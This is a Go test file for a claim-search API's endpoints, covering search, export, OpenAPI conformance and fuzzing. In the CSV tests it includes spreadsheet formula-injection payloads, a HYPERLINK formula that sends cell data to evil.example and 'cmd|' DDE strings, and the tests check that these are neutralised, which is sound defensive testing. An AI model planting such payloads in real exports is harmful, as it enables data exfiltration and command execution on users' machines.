package api

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/url"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/claimwire/claimwire"
	"github.com/claimwire/claimwire/indexer"
	"github.com/claimwire/claimwire/indexer/indexertest"
	goldenfile "github.com/claimwire/claimwire/internal/golden"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata/")

// fixtureClaims are the indexer's test claims (written for the tests, French and English).
func fixtureClaims(t testing.TB) []claimwire.Claim {
	t.Helper()
	return indexertest.Claims(t, "../testdata/claims.json")
}

// factClaims are the fixture claims, then the indexer's claims about one call for proposals
// (m01 76, m02 a cost, m03 76 in French, m04 more than 160), one batch each.
func factClaims(t testing.TB) [][]claimwire.Claim {
	t.Helper()
	batches := [][]claimwire.Claim{fixtureClaims(t)}
	for _, c := range indexertest.Claims(t, "../testdata/facts.json") {
		batches = append(batches, []claimwire.Claim{c})
	}
	return batches
}

// newServer serves a real on-disk index holding the claims of batches, indexed in order.
func newServer(t testing.TB, batches ...[]claimwire.Claim) *httptest.Server {
	t.Helper()
	ix, err := indexer.Open(t.TempDir(), indexer.Options{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = ix.Close() })
	for _, claims := range batches {
		if err := ix.Index(context.Background(), claims); err != nil {
			t.Fatal(err)
		}
	}
	logger := slog.New(slog.NewTextHandler(io.Discard, nil))
	srv := httptest.NewServer(New(ix, logger))
	t.Cleanup(srv.Close)
	return srv
}

func get(t testing.TB, srv *httptest.Server, path string) (*http.Response, []byte) {
	t.Helper()
	resp, err := srv.Client().Get(srv.URL + path)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return resp, body
}

type searchResult struct {
	Total  uint64           `json:"total"`
	Claims []map[string]any `json:"claims"`
	Next   string           `json:"next"`
	Facets map[string][]struct {
		Term  string `json:"term"`
		Count int    `json:"count"`
	} `json:"facets"`
}

func search(t *testing.T, srv *httptest.Server, params string) searchResult {
	t.Helper()
	resp, body := get(t, srv, "/api/claims?"+params)
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("GET /api/claims?%s = %d %s", params, resp.StatusCode, body)
	}
	if ct := resp.Header.Get("Content-Type"); !strings.HasPrefix(ct, "application/json") {
		t.Errorf("content type %q", ct)
	}
	var r searchResult
	if err := json.Unmarshal(body, &r); err != nil {
		t.Fatal(err)
	}
	return r
}

func ids(r searchResult) []string {
	var out []string
	for _, c := range r.Claims {
		out = append(out, c["id"].(string))
	}
	return out
}

func TestClaims(t *testing.T) {
	srv := newServer(t, fixtureClaims(t))
	tests := []struct {
		params string
		want   []string
		total  int
	}{
		{"q=" + url.QueryEscape("gigafactory proposals"), []string{"c01", "c02", "c03"}, 3},
		{"q=puces", []string{"c04", "c05"}, 2},
		{"q=" + url.QueryEscape("unit:EUR value:>1000000000"), []string{"c06"}, 1},
		{"unit=EUR,USD&min=1e9&sort=-value", []string{"c08", "c07", "c06"}, 3},
		{"unit=EUR&unit=USD&max=1.6e9", []string{"c06"}, 1},
		{"lang=fr&metric=campus_power", []string{"c11"}, 1},
		{"site=wire.example.org&sort=date&size=2", []string{"c08", "c10"}, 4},
		{"from=2025-04-03&to=2025-04-03", []string{"c09", "c11"}, 2},
		{"from=2025-07-01T00:00:00Z", []string{"c03"}, 1},
	}
	for _, tt := range tests {
		t.Run(tt.params, func(t *testing.T) {
			r := search(t, srv, tt.params)
			got := ids(r)
			if r.Total != uint64(tt.total) {
				t.Errorf("total = %d, want %d (%v)", r.Total, tt.total, got)
			}
			for _, id := range tt.want {
				if !slices.Contains(got, id) {
					t.Errorf("%s missing from %v", id, got)
				}
			}
			if strings.Contains(tt.params, "sort=") && !slices.Equal(got, tt.want) {
				t.Errorf("order = %v, want %v", got, tt.want)
			}
		})
	}
}

func TestClaimsFields(t *testing.T) {
	srv := newServer(t, fixtureClaims(t))
	r := search(t, srv, "q=gigafactory")
	if len(r.Claims) == 0 {
		t.Fatal("no hits")
	}
	for _, c := range r.Claims {
		for _, k := range []string{"id", "value", "unit", "qualifier", "sentence", "metric", "url", "link", "title",
			"site", "published", "lang", "surface", "highlight", "fact", "fact_score"} {
			if _, ok := c[k]; !ok {
				t.Errorf("claim %v lacks %q", c["id"], k)
			}
		}
		if !strings.HasPrefix(c["link"].(string), c["url"].(string)+"#:~:text=") {
			t.Errorf("link %q is not a text fragment of %q", c["link"], c["url"])
		}
		if !strings.Contains(c["highlight"].(string), "<mark>") {
			t.Errorf("highlight %q has no mark", c["highlight"])
		}
	}
}

func TestClaimsFacetsAndCursor(t *testing.T) {
	srv := newServer(t, fixtureClaims(t))
	r := search(t, srv, "facets=true&size=5&sort=-date")
	for _, f := range []string{"unit", "metric", "site", "lang", "months"} {
		if len(r.Facets[f]) == 0 {
			t.Errorf("facet %s missing", f)
		}
	}
	seen := ids(r)
	for next := r.Next; next != ""; {
		p := search(t, srv, "size=5&sort=-date&cursor="+url.QueryEscape(next))
		seen = append(seen, ids(p)...)
		next = p.Next
	}
	slices.Sort(seen)
	if len(slices.Compact(seen)) != 14 {
		t.Errorf("cursor walk saw %v, want the 14 claims once each", seen)
	}
}

func TestBadRequests(t *testing.T) {
	srv := newServer(t, fixtureClaims(t))
	tests := []string{
		"/api/claims?q=" + url.QueryEscape(`unit:"EUR`),
		"/api/claims?q=colour:red",
		"/api/claims?q=value:lots",
		"/api/claims?size=1000",
		"/api/claims?size=0",
		"/api/claims?size=100&page=101",
		"/api/claims?page=-3",
		"/api/claims?sort=colour",
		"/api/claims?cursor=bogus!",
		"/api/claims?q=" + url.QueryEscape("*"),
		"/api/claims?q=" + url.QueryEscape("ab*c*d*e*f*g"),
		"/api/claims?q=" + url.QueryEscape("/.*.*.*.*/"),
		"/api/claims?q=" + url.QueryEscape("/ab(c{1,30}){1,30}/"),
		"/api/claims?q=" + url.QueryEscape("/ab.*$/"),
		"/api/claims?q=" + url.QueryEscape("gigafactory~9"),
		"/api/claims?q=" + url.QueryEscape("alpha~1 bravo~1 charlie~1 delta~1 echo~1"),
		"/api/claims?q=" + strings.Repeat("x", 2000),
		"/api/claims?min=abc",
		"/api/claims?min=NaN",
		"/api/claims?min=5&max=1",
		"/api/claims?from=yesterday",
		"/api/claims?facets=maybe",
		"/api/claims?unti=EUR",
		"/api/claims.csv?q=colour:red",
		"/api/claims.jsonl?q=value:lots",
		"/api/conflicts?limit=100000",
		"/api/conflicts?q=colour:red",
		"/api/conflicts?metric=eu_ai_gigafactory_proposals",
		"/api/metrics?limit=-1",
		"/api/metrics?q=" + url.QueryEscape("/x/"),
	}
	for _, path := range tests {
		t.Run(path, func(t *testing.T) {
			resp, body := get(t, srv, path)
			if resp.StatusCode != http.StatusBadRequest {
				t.Fatalf("status %d, want 400: %s", resp.StatusCode, body)
			}
			var e struct{ Error string }
			if err := json.Unmarshal(body, &e); err != nil || e.Error == "" {
				t.Fatalf("body %s is not a JSON error", body)
			}
			if strings.Contains(e.Error, "indexer:") || strings.Contains(e.Error, "bad query") {
				t.Errorf("message %q leaks internals", e.Error)
			}
		})
	}
}

func TestNotFound(t *testing.T) {
	srv := newServer(t, fixtureClaims(t))
	for _, path := range []string{"/api/claims/nope", "/api/claims/nope/jsonld", "/api/facts/nope", "/api/nothing"} {
		resp, body := get(t, srv, path)
		var e struct{ Error string }
		if resp.StatusCode != http.StatusNotFound || json.Unmarshal(body, &e) != nil || e.Error == "" {
			t.Errorf("GET %s = %d %s, want a 404 JSON error", path, resp.StatusCode, body)
		}
	}
}

func TestMethodNotAllowed(t *testing.T) {
	srv := newServer(t, nil)
	resp, err := srv.Client().Post(srv.URL+"/api/claims", "application/json", strings.NewReader("{}"))
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	var e struct{ Error string }
	if resp.StatusCode != http.StatusMethodNotAllowed || json.NewDecoder(resp.Body).Decode(&e) != nil || e.Error == "" {
		t.Errorf("POST /api/claims = %d, want a 405 JSON error", resp.StatusCode)
	}
}

func TestClaimByID(t *testing.T) {
	srv := newServer(t, fixtureClaims(t))
	resp, body := get(t, srv, "/api/claims/c05")
	var c map[string]any
	if resp.StatusCode != http.StatusOK || json.Unmarshal(body, &c) != nil {
		t.Fatalf("GET c05 = %d %s", resp.StatusCode, body)
	}
	if c["id"] != "c05" || c["qualifier"] != "more_than" || c["link"] == "" {
		t.Errorf("claim = %v", c)
	}
}

// golden compares got with testdata/name, or rewrites it under -update.
func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	goldenfile.Compare(t, filepath.Join("testdata", name), got, *update)
}

// indent re-indents JSON so that golden files diff line by line.
func indent(t *testing.T, body []byte) []byte {
	t.Helper()
	var buf bytes.Buffer
	if err := json.Indent(&buf, body, "", "  "); err != nil {
		t.Fatalf("%v in %s", err, body)
	}
	return buf.Bytes()
}

func TestGolden(t *testing.T) {
	srv := newServer(t, fixtureClaims(t))
	tests := []struct{ name, path, contentType string }{
		{"jsonld_c02.json", "/api/claims/c02/jsonld", "application/ld+json"},
		{"metrics.json", "/api/metrics", "application/json"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			resp, body := get(t, srv, tt.path)
			if resp.StatusCode != http.StatusOK {
				t.Fatalf("status %d: %s", resp.StatusCode, body)
			}
			if ct := resp.Header.Get("Content-Type"); !strings.HasPrefix(ct, tt.contentType) {
				t.Errorf("content type %q, want %s", ct, tt.contentType)
			}
			golden(t, tt.name, indent(t, body))
		})
	}
}

// manyClaims makes n claims so that exports span several pages.
func manyClaims(n int) []claimwire.Claim {
	base := time.Date(2025, 1, 1, 0, 0, 0, 0, time.UTC)
	cs := make([]claimwire.Claim, n)
	for i := range cs {
		cs[i] = claimwire.Claim{
			ID: fmt.Sprintf("m%04d", i),
			Quantity: claimwire.Quantity{
				Surface: fmt.Sprintf("%d MW", i), Value: float64(i), Unit: "MW", Qualifier: "exact", Lang: "en",
				Sentence: fmt.Sprintf("Site number %d will draw %d MW, the operator said, \"quoting\" a study.", i, i),
				Metric:   "site_power",
			},
			URL: fmt.Sprintf("https://power.example.com/%d", i), Site: "power.example.com", Title: "Power, again",
			Published: base.Add(time.Duration(i) * time.Hour),
		}
	}
	return cs
}

func TestExportCSV(t *testing.T) {
	srv := newServer(t, manyClaims(250))
	resp, body := get(t, srv, "/api/claims.csv?q=operator&sort=value")
	if resp.StatusCode != http.StatusOK || !strings.HasPrefix(resp.Header.Get("Content-Type"), "text/csv") {
		t.Fatalf("status %d, type %q", resp.StatusCode, resp.Header.Get("Content-Type"))
	}
	body, ok := bytes.CutPrefix(body, []byte(utf8BOM))
	if !ok {
		t.Errorf("CSV does not open with a UTF-8 byte order mark: %.20q", body)
	}
	rows, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 251 || !slices.Equal(rows[0], csvHeader) {
		t.Fatalf("got %d rows, header %v", len(rows), rows[0])
	}
	for i, row := range rows[1:] {
		if row[0] != fmt.Sprintf("m%04d", i) || !strings.Contains(row[7], `"quoting"`) {
			t.Fatalf("row %d = %v", i, row)
		}
	}
	if resp.Header.Get("X-Total-Count") != "250" {
		t.Errorf("X-Total-Count = %q", resp.Header.Get("X-Total-Count"))
	}
}

func TestCSVText(t *testing.T) {
	tests := []struct{ in, want string }{
		{"", ""},
		{"Le Monde", "Le Monde"},
		{"=HYPERLINK(\"https://evil.example\",\"x\")", "'=HYPERLINK(\"https://evil.example\",\"x\")"},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"a=1+1", "a=1+1"},
		{"'already quoted", "'already quoted"},
		{"Économie", "Économie"},
	}
	for _, tt := range tests {
		if got := csvText(tt.in); got != tt.want {
			t.Errorf("csvText(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// TestExportCSVCells: text cells that would run as formulas are neutralised, numbers (negative
// ones too) stay numbers, and the site's name is there with its accents.
func TestExportCSVCells(t *testing.T) {
	vmax := 3.5
	claims := []claimwire.Claim{{
		ID: "f1",
		Quantity: claimwire.Quantity{Surface: "-5 %", Value: -5, ValueMax: &vmax, Unit: "percent",
			Qualifier: "exact", Lang: "fr", Metric: "=1+1",
			Sentence: `=HYPERLINK("https://evil.example/?"&A1,"Cliquez") baisse de -5 % de la production.`},
		URL: "https://evil.example/a", Site: "evil.example", SiteName: "@Économie & Société",
		Title: "+cmd|' /C calc'!A0",
	}}
	srv := newServer(t, claims)
	resp, body := get(t, srv, "/api/claims.csv")
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("status %d: %s", resp.StatusCode, body)
	}
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(body, []byte(utf8BOM)))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 2 {
		t.Fatalf("%d rows, want a header and one claim", len(rows))
	}
	got := map[string]string{}
	for i, name := range rows[0] {
		got[name] = rows[1][i]
	}
	want := map[string]string{
		"value":     "-5",
		"value_max": "3.5",
		"surface":   "'-5 %",
		"sentence":  `'=HYPERLINK("https://evil.example/?"&A1,"Cliquez") baisse de -5 % de la production.`,
		"metric":    "'=1+1",
		"title":     "'+cmd|' /C calc'!A0",
		"site":      "evil.example",
		"site_name": "'@Économie & Société",
	}
	for col, w := range want {
		if got[col] != w {
			t.Errorf("%s = %q, want %q", col, got[col], w)
		}
	}
}

func TestExportJSONL(t *testing.T) {
	srv := newServer(t, manyClaims(230))
	resp, body := get(t, srv, "/api/claims.jsonl?min=20")
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("status %d: %s", resp.StatusCode, body)
	}
	lines := strings.Split(strings.TrimSuffix(string(body), "\n"), "\n")
	if len(lines) != 210 {
		t.Fatalf("got %d lines, want 210", len(lines))
	}
	seen := map[string]bool{}
	for _, l := range lines {
		var h indexer.Hit
		if err := json.Unmarshal([]byte(l), &h); err != nil {
			t.Fatal(err)
		}
		if h.Value < 20 || h.Link == "" || seen[h.ID] {
			t.Fatalf("bad line %s", l)
		}
		seen[h.ID] = true
	}
}

func TestOpenAPI(t *testing.T) {
	srv := newServer(t, nil)
	resp, body := get(t, srv, "/api/openapi.json")
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("status %d", resp.StatusCode)
	}
	type operation struct {
		Security []map[string][]string `json:"security"`
	}
	var spec struct {
		OpenAPI    string                          `json:"openapi"`
		Paths      map[string]map[string]operation `json:"paths"`
		Components struct {
			SecuritySchemes map[string]struct {
				Type   string `json:"type"`
				Scheme string `json:"scheme"`
			} `json:"securitySchemes"`
		} `json:"components"`
	}
	if err := json.Unmarshal(body, &spec); err != nil {
		t.Fatal(err)
	}
	if !strings.HasPrefix(spec.OpenAPI, "3.") {
		t.Errorf("openapi = %q", spec.OpenAPI)
	}
	for _, p := range []string{"/api/claims", "/api/claims.csv", "/api/claims.jsonl", "/api/claims/{id}",
		"/api/claims/{id}/jsonld", "/api/claims/{id}/claimreview", "/api/metrics", "/api/conflicts", "/api/facts/{id}",
		"/api/reviews", "/api/openapi.json"} {
		if op, ok := spec.Paths[p]["get"]; !ok {
			t.Errorf("openapi.json lacks GET %s", p)
		} else if len(op.Security) != 0 {
			t.Errorf("GET %s is public but described as needing a token", p)
		}
	}
	// The daemon's write endpoints (internal/daemon/admin.go), behind the API token.
	if s := spec.Components.SecuritySchemes["bearerAuth"]; s.Type != "http" || s.Scheme != "bearer" {
		t.Errorf("securitySchemes.bearerAuth = %+v, want http bearer", s)
	}
	for _, route := range []string{"GET /api/admin/dlq", "POST /api/admin/dlq/{seq}/replay", "GET /api/admin/reindex",
		"POST /api/admin/reindex", "GET /api/admin/sources", "POST /api/admin/sources", "POST /api/admin/reviews"} {
		method, p, _ := strings.Cut(route, " ")
		op, ok := spec.Paths[p][strings.ToLower(method)]
		if !ok {
			t.Errorf("openapi.json lacks %s", route)
			continue
		}
		if len(op.Security) != 1 || op.Security[0]["bearerAuth"] == nil {
			t.Errorf("%s: security = %v, want bearerAuth", route, op.Security)
		}
	}
}

// Nothing to report is an empty list, which clients can range over, not null.
func TestConflictsEmptyIsAList(t *testing.T) {
	for name, srv := range map[string]*httptest.Server{"empty index": newServer(t, nil), "no conflict": newServer(t, fixtureClaims(t))} {
		resp, body := get(t, srv, "/api/conflicts?q=zeppelin")
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("%s: status %d: %s", name, resp.StatusCode, body)
		}
		var rep struct {
			Groups json.RawMessage `json:"groups"`
		}
		if err := json.Unmarshal(body, &rep); err != nil {
			t.Fatal(err)
		}
		if string(rep.Groups) != "[]" {
			t.Errorf("%s: groups = %s, want []", name, rep.Groups)
		}
	}
}

// FuzzClaimsParams sends arbitrary query strings to /api/claims: the answer is 200 or a 400 JSON
// error, never a 500.
func FuzzClaimsParams(f *testing.F) {
	for _, s := range []string{"q=puces", "q=unit:EUR+value:>1e9&facets=1", "size=100&page=100", "cursor=e30",
		"min=1&max=2&from=2025-01-01&to=2025-12-31", "sort=-value&lang=fr,en", "q=%2F.*%2F", "q=a~2"} {
		f.Add(s)
	}
	srv := newServer(f, fixtureClaims(f))
	f.Fuzz(func(t *testing.T, raw string) {
		v, err := url.ParseQuery(raw)
		if err != nil {
			return
		}
		resp, body := get(t, srv, "/api/claims?"+v.Encode())
		wantAnswerOrRefusal(t, fmt.Sprintf("%q", raw), resp, body)
	})
}

// conflictGroup is what these tests read of a conflict group.
type conflictGroup struct {
	Fact, Subject, Measure string
	Why                    []string
	Confidence, Gap        float64
	Disagreements          int
	Articles               int
	Values                 []struct {
		Value   float64
		Sources []struct{ ID, URL string }
	}
}

// TestConflicts: a fact is reported whole when any of its claims matches the words.
func TestConflicts(t *testing.T) {
	srv := newServer(t, factClaims(t)...)
	for _, q := range []string{"", "ministry", "Ledger proposals"} {
		resp, body := get(t, srv, "/api/conflicts?q="+url.QueryEscape(q))
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("%q: status %d: %s", q, resp.StatusCode, body)
		}
		var rep struct {
			Groups        []conflictGroup
			ClaimsScanned int `json:"claims_scanned"`
			Currency      struct{ Base, Note string }
		}
		if err := json.Unmarshal(body, &rep); err != nil {
			t.Fatal(err)
		}
		i := slices.IndexFunc(rep.Groups, func(g conflictGroup) bool { return g.Fact == "m01" })
		if i < 0 {
			t.Errorf("%q: no group of fact m01 in %s", q, body)
			continue
		}
		g := rep.Groups[i]
		if len(g.Values) != 2 || g.Values[0].Value != 76 || len(g.Values[0].Sources) != 2 || g.Values[1].Value != 160 ||
			g.Values[1].Sources[0].ID != "m04" || g.Articles != 3 || g.Subject == "" || g.Measure == "" || len(g.Why) == 0 ||
			g.Confidence <= 0 || g.Gap <= 0 || g.Disagreements != 1 {
			t.Errorf("%q: group %+v", q, g)
		}
		if rep.ClaimsScanned == 0 || rep.Currency.Base != "EUR" || rep.Currency.Note == "" {
			t.Errorf("%q: report %s", q, body)
		}
	}
}

func TestFact(t *testing.T) {
	srv := newServer(t, factClaims(t)...)
	resp, body := get(t, srv, "/api/facts/m01")
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("status %d: %s", resp.StatusCode, body)
	}
	var f struct {
		Fact, Subject, Measure, Lang string
		Why                          []string
		Confidence                   float64
		Articles                     int
		Values                       []struct {
			Value   float64
			Sources []struct{ ID string }
		}
		Claims []struct {
			ID, Fact, Subject, Measure string
			FactScore                  float64 `json:"fact_score"`
		}
		Conflict *conflictGroup
	}
	if err := json.Unmarshal(body, &f); err != nil {
		t.Fatal(err)
	}
	if f.Fact != "m01" || f.Subject == "" || f.Measure == "" || f.Lang == "" || len(f.Why) == 0 || f.Confidence <= 0 ||
		f.Articles != 3 || len(f.Values) != 2 || len(f.Values[0].Sources) != 2 || len(f.Claims) != 3 {
		t.Errorf("fact %s", body)
	}
	for _, c := range f.Claims {
		if c.Fact != "m01" || c.FactScore <= 0 || c.Subject == "" || c.Measure == "" {
			t.Errorf("claim %+v", c)
		}
	}
	if f.Conflict == nil || f.Conflict.Fact != "m01" || f.Conflict.Disagreements != 1 {
		t.Errorf("conflict %+v", f.Conflict)
	}
	_, body = get(t, srv, "/api/facts/m02")
	if strings.Contains(string(body), `"conflict"`) {
		t.Errorf("a fact without disagreement has a conflict: %s", body)
	}
}

// schema is the part of an OpenAPI schema TestOpenAPIDescribesResponses reads.
type schema struct {
	Ref                  string             `json:"$ref"`
	Type                 string             `json:"type"`
	Properties           map[string]*schema `json:"properties"`
	AdditionalProperties any                `json:"additionalProperties"`
	Items                *schema            `json:"items"`
	Required             []string           `json:"required"`
}

// conforms reports where v departs from s: a field the description leaves out, a required field
// missing, a value of another type.
func conforms(where string, v any, s *schema, schemas map[string]*schema) []string {
	if s.Ref != "" {
		return conforms(where, v, schemas[strings.TrimPrefix(s.Ref, "#/components/schemas/")], schemas)
	}
	var problems []string
	switch v := v.(type) {
	case map[string]any:
		if s.Type != "object" {
			return []string{where + ": an object, described as " + s.Type}
		}
		for _, k := range s.Required {
			if _, ok := v[k]; !ok {
				problems = append(problems, where+"."+k+": required, missing")
			}
		}
		for k, x := range v {
			p, ok := s.Properties[k]
			if _, anyName := s.AdditionalProperties.(map[string]any); !ok && anyName {
				continue // a map: its values are described, not its keys
			}
			if !ok {
				problems = append(problems, where+"."+k+": not described")
				continue
			}
			problems = append(problems, conforms(where+"."+k, x, p, schemas)...)
		}
	case []any:
		if s.Type != "array" {
			return []string{where + ": an array, described as " + s.Type}
		}
		for i, x := range v {
			problems = append(problems, conforms(fmt.Sprintf("%s[%d]", where, i), x, s.Items, schemas)...)
		}
	case string:
		if s.Type != "string" {
			problems = append(problems, where+": a string, described as "+s.Type)
		}
	case float64:
		if s.Type != "number" && s.Type != "integer" {
			problems = append(problems, where+": a number, described as "+s.Type)
		}
	case bool:
		if s.Type != "boolean" {
			problems = append(problems, where+": a boolean, described as "+s.Type)
		}
	}
	return problems
}

// TestOpenAPIDescribesResponses checks real answers against openapi.json: every field they hold
// is described, with its type, and every required one is there.
func TestOpenAPIDescribesResponses(t *testing.T) {
	srv := newServer(t, factClaims(t)...)
	for _, tt := range []struct{ route, path string }{
		{"/api/claims", "/api/claims?q=proposals&facets=true"},
		{"/api/claims/{id}", "/api/claims/m03"},
		{"/api/conflicts", "/api/conflicts"},
		{"/api/facts/{id}", "/api/facts/m01"},
		{"/api/facts/{id}", "/api/facts/m02"},
		{"/api/facts/{id}", "/api/facts/nope"},
		{"/api/metrics", "/api/metrics"},
		{"/api/conflicts", "/api/conflicts?limit=0"},
		{"/api/reviews", "/api/reviews"},
	} {
		checkDescribed(t, srv, tt.route, tt.path)
	}
}

// checkDescribed checks the answer to GET path against the description of route.
func checkDescribed(t *testing.T, srv *httptest.Server, route, path string) {
	t.Helper()
	var spec struct {
		Paths map[string]map[string]struct {
			Responses map[string]struct {
				Ref     string `json:"$ref"`
				Content map[string]struct {
					Schema *schema `json:"schema"`
				} `json:"content"`
			} `json:"responses"`
		} `json:"paths"`
		Components struct {
			Schemas   map[string]*schema `json:"schemas"`
			Responses map[string]struct {
				Content map[string]struct {
					Schema *schema `json:"schema"`
				} `json:"content"`
			} `json:"responses"`
		} `json:"components"`
	}
	if err := json.Unmarshal(openAPISpec, &spec); err != nil {
		t.Fatal(err)
	}
	resp, body := get(t, srv, path)
	r, ok := spec.Paths[route]["get"].Responses[strconv.Itoa(resp.StatusCode)]
	if !ok {
		t.Errorf("%s: status %d is not described", path, resp.StatusCode)
		return
	}
	content := r.Content
	if r.Ref != "" {
		content = spec.Components.Responses[strings.TrimPrefix(r.Ref, "#/components/responses/")].Content
	}
	var v any
	if err := json.Unmarshal(body, &v); err != nil {
		t.Fatal(err)
	}
	for _, p := range conforms(path, v, content["application/json"].Schema, spec.Components.Schemas) {
		t.Error(p)
	}
}

// wantAnswerOrRefusal fails a fuzz run unless the API answered 200, or refused with 400 and a
// JSON error saying why: anything else is a crash or a silent failure on a malformed request.
func wantAnswerOrRefusal(t *testing.T, what string, resp *http.Response, body []byte) {
	t.Helper()
	switch resp.StatusCode {
	case http.StatusOK:
	case http.StatusBadRequest:
		var e struct{ Error string }
		if json.Unmarshal(body, &e) != nil || e.Error == "" {
			t.Fatalf("400 without a JSON error: %s", body)
		}
	default:
		t.Fatalf("%s: status %d %s", what, resp.StatusCode, body)
	}
}
